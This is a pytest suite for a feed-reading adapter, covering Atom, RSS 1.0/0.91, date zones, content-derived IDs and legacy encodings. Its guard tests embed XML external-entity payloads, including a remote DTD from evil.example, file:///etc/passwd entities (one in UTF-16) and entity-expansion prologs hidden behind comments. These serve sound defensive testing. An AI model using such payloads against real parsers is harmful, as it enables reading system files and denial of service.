"""The "rss" kind reads feeds as the web writes them (old formats, loose XML, odd dates, legacy
encodings), behind Dengar's guards, and says in words what it noticed about a feed."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest
from django.utils import timezone

from listening.models import Mention, Source
from listening.selectors.sources import source_feed_notes
from listening.services.sources import source_poll_once
from tests import factories
from tests.workers.test_rss_adapter import rss_adapter, server  # noqa: F401 - the feed server fixture
from workers.adapters import registry
from workers.adapters.base import PermanentAdapterError, TransientAdapterError
from workers.adapters.rss.adapter import RssAdapter

NOW = datetime(2024, 6, 5, 8, 0, tzinfo=UTC)


def fetch(server, body: bytes, content_type: str = "application/xml", **headers: str):  # noqa: F811
    url = server.serve("/feed", body, **{"Content-Type": content_type, **headers})
    return RssAdapter({"url": url}, allow_private=True, clock=lambda: NOW).fetch(cursor=None)


# --- formats -------------------------------------------------------------------------------------

def test_it_reads_an_atom_0_3_feed_with_its_issued_dates(server):  # noqa: F811
    atom03 = b"""<?xml version="1.0"?><feed version="0.3" xmlns="http://purl.org/atom/ns#">
      <title>t</title><entry><title>Acme 0.3</title><link rel="alternate" href="http://a.example/1"/>
      <id>tag:a,1</id><issued>2004-01-01T19:48:21-05:00</issued><modified>2004-01-02T00:00:00Z</modified>
      </entry></feed>"""
    [item] = fetch(server, atom03).mentions
    assert (item.text, item.url, item.external_id) == ("Acme 0.3", "http://a.example/1", "tag:a,1")
    assert item.published_at == datetime(2004, 1, 2, 0, 48, 21, tzinfo=UTC)


def test_it_reads_rss_1_0_with_dc_dates_and_titles(server):  # noqa: F811
    rdf = b"""<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
      xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
      <channel rdf:about="x"><title>t</title></channel>
      <item rdf:about="http://a.example/2"><dc:title>Acme in RDF</dc:title><link>http://a.example/2</link>
      <dc:date>Thu, 01 Jan 2004 19:48:21 GMT</dc:date></item></rdf:RDF>"""
    [item] = fetch(server, rdf).mentions
    assert (item.text, item.url) == ("Acme in RDF", "http://a.example/2")
    assert item.published_at == datetime(2004, 1, 1, 19, 48, 21, tzinfo=UTC)


def test_it_reads_rss_0_91_with_the_netscape_doctype_and_html_entities(server):  # noqa: F811
    rss091 = b"""<?xml version="1.0"?>
      <!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
        "http://my.netscape.com/publish/formats/rss-0.91.dtd">
      <rss version="0.91"><channel><title>t</title><item><title>Caf&eacute; Acme &amp; more</title>
      <link>http://a.example/3</link><description>Fish & chips</description></item></channel></rss>"""
    [item] = fetch(server, rss091).mentions
    assert item.text == "Café Acme & more\n\nFish & chips"


def test_one_broken_item_does_not_lose_the_feed(server):  # noqa: F811
    loose = b"""<rss version="2.0"><channel><title>t</title>
      <item><title>Good</title><guid>g1</guid><pubDate>Tue, 04 Jun 2024 09:15:00 +0000</pubDate></item>
      <item><title>Broken & <b>unclosed</title><guid>g2</guid></item></channel></rss>"""
    result = fetch(server, loose)
    assert [m.external_id for m in result.mentions] == ["g1", "g2"]
    assert result.next_cursor["health"]["lenient"]  # read leniently, and the feed's health says so


def test_relative_links_resolve_against_xml_base_and_the_feeds_address(server):  # noqa: F811
    atom = b"""<feed xmlns="http://www.w3.org/2005/Atom" xml:base="http://blog.example/posts/">
      <title>t</title><entry><title>A</title><id>urn:a</id><link href="one.html"/>
      <updated>2024-06-04T09:00:00Z</updated></entry></feed>"""
    [item] = fetch(server, atom).mentions
    assert item.url == "http://blog.example/posts/one.html"
    rss = b"""<rss version="2.0"><channel><title>t</title><item><title>B</title><guid>b-1</guid>
      <link>/b/1</link></item></channel></rss>"""
    [item] = fetch(server, rss).mentions
    assert (item.url, item.external_id) == (f"{server.base}/b/1", "b-1")  # the guid as written


# --- dates ---------------------------------------------------------------------------------------

@pytest.mark.parametrize(("written", "utc"), [
    ("Wed, 02 Jan 2002 08:00:00 ET", datetime(2002, 1, 2, 13, 0, tzinfo=UTC)),
    ("Wed, 02 Jan 2002 08:00:00 PT", datetime(2002, 1, 2, 16, 0, tzinfo=UTC)),
    ("Wed, 02 Jan 2002 08:00:00 MEST", datetime(2002, 1, 2, 6, 0, tzinfo=UTC)),
    ("Wed, 02 Oct 2002 08:00:00 -01:01", datetime(2002, 10, 2, 9, 1, tzinfo=UTC)),
    ("2002-10-02T08:00:00+07:00", datetime(2002, 10, 2, 1, 0, tzinfo=UTC)),
])
def test_dates_are_read_with_their_zone(server, written, utc):  # noqa: F811
    body = (f"<rss version='2.0'><channel><title>t</title><item><title>A</title><guid>a</guid>"
            f"<pubDate>{written}</pubDate></item></channel></rss>").encode()
    [item] = fetch(server, body).mentions
    assert item.published_at == utc


def test_an_undated_item_takes_the_time_it_was_first_seen_and_the_feed_says_so(server):  # noqa: F811
    body = b"""<rss version="2.0"><channel><title>t</title>
      <item><title>Undated</title><guid>u1</guid></item>
      <item><title>Zoneless</title><guid>z1</guid><pubDate>Tue, 04 Jun 2024 09:15:00</pubDate></item>
      </channel></rss>"""
    result = fetch(server, body)
    undated, zoneless = result.mentions
    assert undated.published_at == NOW
    assert zoneless.published_at == datetime(2024, 6, 4, 9, 15, tzinfo=UTC)
    assert result.next_cursor["health"] == {"items": 2, "undated": 1, "zoneless": 1}


# --- ids -----------------------------------------------------------------------------------------

def test_an_item_without_guid_or_link_gets_a_stable_id_from_its_content(server):  # noqa: F811
    body = b"""<rss version="2.0"><channel><title>t</title>
      <item><title>Acme refund late</title><description>Still waiting.</description></item>
      <item><title>Acme refund late</title><description>Another post.</description></item>
      </channel></rss>"""
    adapter = rss_adapter(server.serve("/noid", body))
    first = adapter.fetch(cursor=None)
    ids = [m.external_id for m in first.mentions]
    assert len(set(ids)) == 2
    assert all(i.startswith("content:sha256:") and len(i) <= 200 for i in ids)
    assert first.next_cursor["health"]["without_id"] == 2
    assert [m.external_id for m in adapter.fetch(cursor=None).mentions] == ids  # the same on a re-read
    assert list(adapter.fetch(cursor=first.next_cursor).mentions) == []  # delivered once


# --- encodings -----------------------------------------------------------------------------------

@pytest.mark.parametrize(("charset", "title"), [("windows-1252", "Kopi “Senja” – 5€"), ("koi8-r", "Кофе Сенджа")])
def test_the_http_charset_is_honoured(server, charset, title):  # noqa: F811
    body = f"<rss version='2.0'><channel><title>t</title><item><title>{title}</title>" \
           "<guid>c1</guid></item></channel></rss>"
    [item] = fetch(server, body.encode(charset), f"application/rss+xml; charset={charset}").mentions
    assert item.text == title


@pytest.mark.parametrize("encoding", ["big5", "euc-kr", "gb2312", "shift_jis"])
def test_multi_byte_legacy_encodings_are_read(server, encoding):  # noqa: F811
    title = {"big5": "咖啡", "euc-kr": "커피", "gb2312": "咖啡", "shift_jis": "コーヒー"}[encoding]
    body = (f"<?xml version='1.0' encoding='{encoding}'?><rss version='2.0'><channel><title>t</title>"
            f"<item><title>{title}</title><guid>e1</guid></item></channel></rss>").encode(encoding)
    [item] = fetch(server, body).mentions
    assert item.text == title


def test_an_unknown_declared_encoding_is_not_an_error(server):  # noqa: F811
    body = b"<?xml version='1.0' encoding='x-klingon'?><rss version='2.0'><channel><title>t</title>" \
           b"<item><title>Acme</title><guid>k1</guid></item></channel></rss>"
    [item] = fetch(server, body).mentions
    assert item.text == "Acme"


# --- guards --------------------------------------------------------------------------------------

def test_a_short_entity_declaration_is_read(server):  # noqa: F811
    body = b"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY nbsp "&#160;"> <!ENTITY brand "Acme">]>
      <rss version="2.0"><channel><title>t</title><item><title>&brand;&nbsp;news</title><guid>n1</guid>
      </item></channel></rss>"""
    [item] = fetch(server, body).mentions
    assert item.text == "Acme news"


@pytest.mark.parametrize("prolog", [
    b'<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>',
    b'<!DOCTYPE r [<!ENTITY big "' + b"x" * 100 + b'">]>',
    # An element-like "<a" in a comment must not end the look-out before the declaration.
    b'<!-- <a --><!DOCTYPE r [<!ENTITY a "&b;&b;&b;"><!ENTITY b "bbbbbbbbbb">]>',
    # A processing instruction hiding the start of a comment.
    b'<?pi <!-- ?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><!-- -->',
])
def test_an_entity_that_could_expand_or_read_files_is_refused_wherever_it_hides(server, prolog):  # noqa: F811
    body = b'<?xml version="1.0"?>' + prolog + b"<rss version='2.0'><channel><item><title>&a;</title>" \
           b"<guid>1</guid></item></channel></rss>"
    with pytest.raises(PermanentAdapterError, match="declares an entity"):
        fetch(server, body)


def test_an_entity_declared_in_utf_16_is_refused_too(server):  # noqa: F811
    body = ('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            "<rss version='2.0'><channel><item><title>&x;</title></item></channel></rss>").encode("utf-16")
    with pytest.raises(PermanentAdapterError, match="declares an entity"):
        fetch(server, body)


def test_a_body_naming_a_local_file_is_never_opened(server, tmp_path):  # noqa: F811
    secret = tmp_path / "feed.xml"
    secret.write_bytes(b"<rss version='2.0'><channel><item><title>SECRET</title></item></channel></rss>")
    with pytest.raises(PermanentAdapterError, match="not an RSS, RDF or Atom feed"):
        fetch(server, str(secret).encode(), "text/plain")


def test_an_empty_answer_is_transient(server):  # noqa: F811
    with pytest.raises(TransientAdapterError, match="the response is empty"):
        fetch(server, b"  \n")


# --- the source's health, in words ---------------------------------------------------------------

def test_the_sources_health_says_what_the_feed_lacks(world, server, settings):  # noqa: F811
    settings.DENGAR = {**settings.DENGAR, "FEEDS_ALLOW_PRIVATE": True}
    items = "".join(f"<item><title>Acme {i}</title><guid>d{i}</guid></item>" for i in range(12))
    zoneless = "".join(f"<item><title>Acme z{i}</title><guid>z{i}</guid>"
                       f"<pubDate>Tue, 04 Jun 2024 09:1{i}:00</pubDate></item>" for i in range(2))
    body = f"<rss version='2.0'><channel><title>t</title>{items}{zoneless}</channel></rss>".encode()
    source = factories.SourceFactory(
        tenant=world.acme, name="Undated", kind="rss",
        config=registry.validate_config("rss", {"url": server.serve("/undated.rss", body)}))

    before = timezone.now()
    outcome = source_poll_once(source=source)

    assert (outcome.report.received, outcome.report.stored) == (14, 14)
    source = Source.all_tenants.get(pk=source.pk)
    assert source_feed_notes(source=source) == [
        "2 items' dates have no time zone: Dengar reads them as UTC.",
        "12 items had no date: each is dated when Dengar first saw it.",
    ]
    first_seen = Mention.all_tenants.get(source=source, external_id="d0").published_at
    assert before <= first_seen <= source.last_success_at


def test_a_feed_whose_every_date_lacks_a_zone_is_told_in_one_sentence(world):
    source = factories.SourceFactory(tenant=world.acme, name="Zoneless", kind="rss",
                                     config={"url": "https://example.com/f"},
                                     cursor={"seen": [], "health": {"items": 3, "zoneless": 3}})
    assert source_feed_notes(source=source) == ["This feed's dates have no time zone: Dengar reads them as UTC."]
    source.cursor = {"seen": [], "health": {"items": "x", "undated": True}}  # not the adapter's: ignored
    assert source_feed_notes(source=source) == []



def test_windows_1252_bytes_declared_as_iso_8859_1_keep_their_quotes_and_dashes(server):  # noqa: F811
    body = ("<?xml version='1.0' encoding='iso-8859-1'?><rss version='2.0'><channel><title>t</title>"
            "<item><title>Kopi “Senja” – 5€</title><guid>w1</guid></item></channel></rss>").encode("windows-1252")
    [item] = fetch(server, body).mentions
    assert item.text == "Kopi “Senja” – 5€"  # no C1 control characters


def test_an_external_dtd_is_never_fetched(server):  # noqa: F811
    dtd = server.serve("/rss.dtd", b'<!ENTITY x "from the dtd">')
    body = (f'<?xml version="1.0"?><!-- <a --><!DOCTYPE rss SYSTEM "{dtd}">'
            "<rss version='2.0'><channel><title>t</title><item><title>Acme</title><guid>d1</guid></item>"
            "</channel></rss>").encode()
    [item] = fetch(server, body).mentions
    assert item.text == "Acme"
    assert [path for path, _ in server.requests] == ["/feed"]
